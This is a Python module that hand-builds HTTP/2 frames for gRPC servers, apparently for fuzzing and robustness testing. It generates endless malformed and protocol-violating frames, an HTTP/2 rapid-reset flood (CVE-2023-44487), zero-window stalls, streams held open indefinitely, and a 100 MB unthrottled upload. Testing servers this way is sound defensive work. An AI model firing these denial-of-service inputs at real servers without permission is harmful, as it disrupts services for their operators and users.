"""HTTP/2 by hand (RFC 9113, RFC 7541), for clients that do what no library lets them do."""

from __future__ import annotations

import random
import struct
from collections.abc import Iterator, Sequence

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
_INITIAL_WINDOW_SIZE = 4
_HUGE = 100 << 20


def frame(kind: int, flags: int, stream: int, payload: bytes = b"", *, length: int | None = None) -> bytes:
    """One frame; `length` is what it claims, when that is not the truth."""
    claimed = len(payload) if length is None else length
    return struct.pack(">I", claimed)[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def no_window() -> bytes:
    """A beginning after which the server may not send a byte of any answer."""
    return PREFACE + settings((_INITIAL_WINDOW_SIZE, 0))


def call(stream: int, path: str, message: bytes, *, claimed_bytes: int | None = None) -> bytes:
    """A gRPC call: its headers and one message, which ends the stream unless it claims to be longer than it is."""
    head = frame(HEADERS, END_HEADERS, stream, header_block(path))
    prefix = struct.pack(">BI", 0, len(message) if claimed_bytes is None else claimed_bytes)
    flags = END_STREAM if claimed_bytes is None else 0
    return head + frame(DATA, flags, stream, prefix + message)


def header_block(path: str, extra: Sequence[tuple[str, str]] = ()) -> bytes:
    """Literal fields without indexing and without Huffman codes."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "abuse"),
              ("content-type", "application/grpc"), ("te", "trailers"), *extra]  # fmt: skip
    return b"".join(b"\x00" + _string(name) + _string(value) for name, value in fields)


def _string(text: str) -> bytes:
    data = text.encode(errors="surrogateescape")
    if len(data) < 127:
        return bytes((len(data),)) + data
    rest, length = len(data) - 127, b"\x7f"
    while rest >= 128:
        length += bytes((rest % 128 + 128,))
        rest //= 128
    return length + bytes((rest,)) + data


def broken_connections(chance: random.Random, path: str) -> Iterator[bytes]:
    """What connections say that begin well, without end."""
    begin = PREFACE + settings()
    while True:
        stream = 2 * chance.randrange(1 << 20) + 1
        block = header_block(path)
        yield begin + frame(DATA, 0, 0, b"x" * 10)  # data of the connection
        yield begin + frame(DATA, END_STREAM, stream, b"x" * 10)  # of a stream that was never opened
        yield begin + frame(HEADERS, END_HEADERS, 2, block)  # a stream only servers may open
        yield begin + frame(HEADERS, END_HEADERS, stream, chance.randbytes(64))
        yield begin + frame(HEADERS, 0, stream, block) + frame(PING, 0, 0, bytes(8))  # headers must go on
        yield begin + frame(HEADERS, 0, stream, block) + frame(CONTINUATION, 0, stream, b"\x00\x01a\x01b") * 2000
        yield begin + frame(SETTINGS, 0, 0, b"12345")
        yield begin + frame(SETTINGS, ACK, 0, b"123456")
        yield begin + settings((_INITIAL_WINDOW_SIZE, 1 << 31))
        yield begin + settings() * 1000
        yield begin + frame(PING, 0, 0, bytes(8)) * 1000
        yield begin + frame(PING, 0, 0, b"short")
        yield begin + frame(WINDOW_UPDATE, 0, 0, bytes(4))
        yield begin + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1)) * 2
        yield begin + frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 1))  # depends on itself
        yield begin + frame(PUSH_PROMISE, END_HEADERS, stream, struct.pack(">I", 2) + block)
        yield begin + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        yield begin + frame(GOAWAY, 0, 0, bytes(8)) + call(1, path, b"")
        yield begin + frame(255, 255, stream, chance.randbytes(100))
        yield begin + frame(DATA, 0, 1, chance.randbytes(50), length=(1 << 24) - 1)
        yield begin + rapid_resets(path, 500)
        yield begin + call(1, path, b"x", claimed_bytes=(1 << 32) - 1)
        yield begin + call(1, "no path at all", b"")
        yield begin + call(1, path + "\udcff\udcfe", b"")  # no UTF-8
        yield begin + frame(HEADERS, END_HEADERS, 1, header_block(path, [("x", "y" * 8000)] * 4))
        yield begin + _mutated(call(1, path, chance.randbytes(100)), chance)


def rapid_resets(path: str, number: int) -> bytes:
    """Streams opened and cancelled in one breath (CVE-2023-44487)."""
    block = header_block(path)
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        for stream in range(1, 2 * number, 2)
    )


def open_streams(path: str, number: int) -> Iterator[bytes]:
    """Calls whose message never comes, whatever the server says of how many it takes."""
    block = header_block(path)
    for stream in range(1, 2 * number, 2):
        yield frame(HEADERS, END_HEADERS, stream, block)


def huge_message(path: str) -> Iterator[bytes]:
    """A call that sends 100 MB without waiting for leave to."""
    yield PREFACE + settings() + call(1, path, b"", claimed_bytes=_HUGE)
    piece = frame(DATA, 0, 1, bytes(16384))
    for _ in range(_HUGE // 16384):
        yield piece


def _mutated(data: bytes, chance: random.Random) -> bytes:
    changed = bytearray(data)
    for _ in range(chance.randrange(1, 8)):
        changed[chance.randrange(len(changed))] = chance.randrange(256)
    return bytes(changed)
